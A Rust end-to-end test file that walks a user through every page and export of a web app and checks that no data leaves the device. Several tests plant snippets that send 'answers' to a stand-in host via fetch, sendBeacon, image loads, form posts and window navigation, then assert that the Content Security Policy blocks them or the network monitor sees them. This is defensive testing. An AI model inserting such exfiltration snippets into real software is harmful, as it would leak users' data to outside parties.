//! What was seen: the network is watched through every page and every export, and what somebody plants is stopped or seen.

use crate::answers::ready;
use journeys::{Asked, Build, Engine, Host, Person};

/// Where somebody planted would send answers to.
const ELSEWHERE: &str = "http://elsewhere.test";
const REMEMBERS: &str =
    "self.stopped = []; addEventListener('securitypolicyviolation', (event) => stopped.push(event.violatedDirective));";

/// Every page of the app, and everything that makes a file or copies a text.
fn goes_everywhere(person: &Person) {
    person.starts().goes_through(&ready());
    person.finishes().presses("In 30 days").presses("Make my summary").arrives();
    person.writes("A name for it, if you want one", "Johnny");
    let page = person.downloads("Web page");
    for file in ["Data (JSON)", "Markdown", "Calendar file"] {
        person.downloads(file);
    }
    person.presses("Copy as text").sees("Copied.").presses("Copy the receipt").sees("Copied.");
    person.writes("Passphrase", "something long");
    let locked = person.downloads("Web page with this passphrase");
    person.goes_to("/check").goes_to("/asked").goes_to("/how").goes_to("/data");
    let backup = person.downloads("Download a backup");
    person.picks_file("Choose a backup file", &backup.path).sees("Nothing was changed.");
    person.goes_to("/coach").picks_file("Choose files", &page.path).sees_the_heading("Before we talk: Johnny");
    person.goes_to("/coach").picks_file("Choose files", &locked.path).sees("Passphrase");
    person.downloads("Download a backup");
    person.goes_to("/data").presses("Delete everything").sees("Delete everything for good");
    person.presses("Delete everything for good").sees("Deleted.");
}

/// The same on the page with figures of a team.
fn goes_through_team_figures(person: &Person) {
    person.writes("Why do I want them coached?", "To sell more").presses("On to the figures").arrives();
    person.presses("Twelve people, as in real life").sees("12 people are here.");
    person.presses("See what follows").arrives().presses("How sure is this?").sees("Real deals differ in size");
    person.presses("Copy the invitation").sees("Copied.").presses("Back to the figures").arrives();
    let file = person.downloads("Download as CSV");
    person.chooses("Keep them on this device").sees("Saved on this device");
    person.picks_file("Open a CSV file", &file.path).sees("12 people are here.");
    person.presses("Empty the table").presses("Yes, empty it").sees("The table is empty");
}

/// What browsers ask their makers for by themselves, whatever page is open.
const BROWSERS_OWN: [&str; 6] =
    ["google.com", "gvt1.com", "mozilla.org", "googleapis.com", "duckduckgo.com", "mozilla.com"];

fn is_the_browsers_own(asked: &Asked) -> bool {
    let address = asked.address.split_once("://").map_or(asked.address.as_str(), |(_, rest)| rest);
    let host = address.split(['/', ':', '?']).next().unwrap_or_default();
    BROWSERS_OWN.iter().any(|own| host == *own || host.ends_with(&format!(".{own}")))
}

fn of_the_app(asked: Vec<Asked>) -> Vec<Asked> {
    asked.into_iter().filter(|asked| !is_the_browsers_own(asked)).collect()
}

/// What was asked that is not loading a file of the build: its own address, nothing sent along.
fn suspicious(asked: &[Asked], build: &Build) -> Vec<Asked> {
    let own = build.addresses();
    let is_own = |asked: &Asked| asked.method == "GET" && asked.body == 0 && own.contains(&asked.address);
    let not_own = |asked: &&Asked| !is_own(asked) && !is_the_browsers_own(asked);
    asked.iter().filter(not_own).cloned().collect()
}

#[test]
fn through_every_page_and_export_nothing_is_asked_for_but_the_files_of_the_build() {
    let build = Build::shipped();
    let host = Host::start_with_record(build.site(), 0).expect("a port is free");
    let person = Person::opens_watched(&host);
    person.waits_until_installed();
    goes_everywhere(&person);
    let person = person.turns_to_team_figures();
    goes_through_team_figures(&person);
    person.leaves();
    let asked = host.asked();
    assert!(asked.iter().any(|asked| asked.address == "/"), "the network was not watched");
    assert_eq!(suspicious(&asked, &build), []);
}

#[test]
fn once_the_app_is_kept_nothing_is_asked_for_but_its_own_update() {
    let host = Host::start_with_record(Build::shipped().site(), 0).expect("a port is free");
    let person = Person::opens_watched(&host);
    person.waits_until_installed().comes_again();
    host.asked();
    goes_everywhere(&person);
    let person = person.turns_to_team_figures();
    goes_through_team_figures(&person);
    person.leaves();
    let mut asked = of_the_app(host.asked());
    asked.retain(|asked| asked.address != "/service-worker.js");
    assert_eq!(asked, []);
}

#[test]
fn the_single_files_ask_nobody_for_anything() {
    let host = Host::start_with_record(Build::shipped().site(), 0).expect("a port is free");
    let person = Person::opens_the_file_watched(&host);
    goes_everywhere(&person);
    let person = person.turns_to_team_figures();
    goes_through_team_figures(&person);
    person.leaves();
    assert_eq!(of_the_app(host.asked()), []);
}

#[test]
fn what_is_planted_to_send_answers_elsewhere_is_stopped_by_the_policy() {
    let planted = format!(
        "{REMEMBERS}
        fetch('{ELSEWHERE}/fetch').catch(() => 0);
        navigator.sendBeacon('{ELSEWHERE}/beacon', 'answers');
        new Image().src = '{ELSEWHERE}/image';
        const form = Object.assign(document.createElement('form'), {{ action: '{ELSEWHERE}/form', method: 'post' }});
        document.body.append(form);
        form.submit();"
    );
    let host = Host::start_with_record(Build::shipped().with_more_in("own-reasons.js", &planted).site(), 0);
    let host = host.expect("a port is free");
    // Some engines hold the page up for the form that is stopped.
    let person = Person::opens_watched_without_waiting(&host);
    let mut stopped = person.lists_what_was_stopped(4);
    stopped.sort();
    assert_eq!(stopped, ["connect-src", "connect-src", "form-action", "img-src"]);
    person.forgives_errors_with(ELSEWHERE);
    person.leaves();
    let reached: Vec<Asked> = host.asked().into_iter().filter(|asked| asked.address.contains("elsewhere")).collect();
    assert_eq!(reached, []);
}

#[test]
fn what_a_policy_does_not_stop_is_seen_on_the_network() {
    let ways = [
        ("addEventListener('click', () => fetch('./leak?answers'));".to_owned(), "/leak?answers".to_owned()),
        (format!("addEventListener('click', () => location.assign('{ELSEWHERE}/away'));"), format!("{ELSEWHERE}/away")),
        (format!("addEventListener('click', () => open('{ELSEWHERE}/window'));"), format!("{ELSEWHERE}/window")),
    ];
    // The browser of ours around WebKitGTK opens no windows.
    let seen = if Engine::running() == Engine::WebKitGtk { 2 } else { 3 };
    for (planted, address) in ways.into_iter().take(seen) {
        let build = Build::shipped().with_more_in("own-reasons.js", &planted);
        let host = Host::start_with_record(build.site(), 0).expect("a port is free");
        let person = Person::opens_watched(&host);
        person.presses("Start");
        let seen = person.waits_until_suspicious(&host, |asked| suspicious(asked, &build));
        assert!(seen.iter().any(|asked| asked.address == address), "{address}: {seen:?}");
        person.forgives_all_errors();
        person.leaves();
    }
}

#[test]
fn the_service_worker_is_under_the_policy_of_its_host() {
    let planted = format!("fetch('{ELSEWHERE}/from-the-worker').catch(() => 0);");
    let build = Build::shipped().with_more_in("service-worker.js", &planted);
    let host = Host::start_with_record(build.site(), 0).expect("a port is free");
    let person = Person::opens_watched(&host);
    person.waits_until_installed().forgives_errors_with(ELSEWHERE);
    person.leaves();
    assert_eq!(suspicious(&host.asked(), &build), []);
}
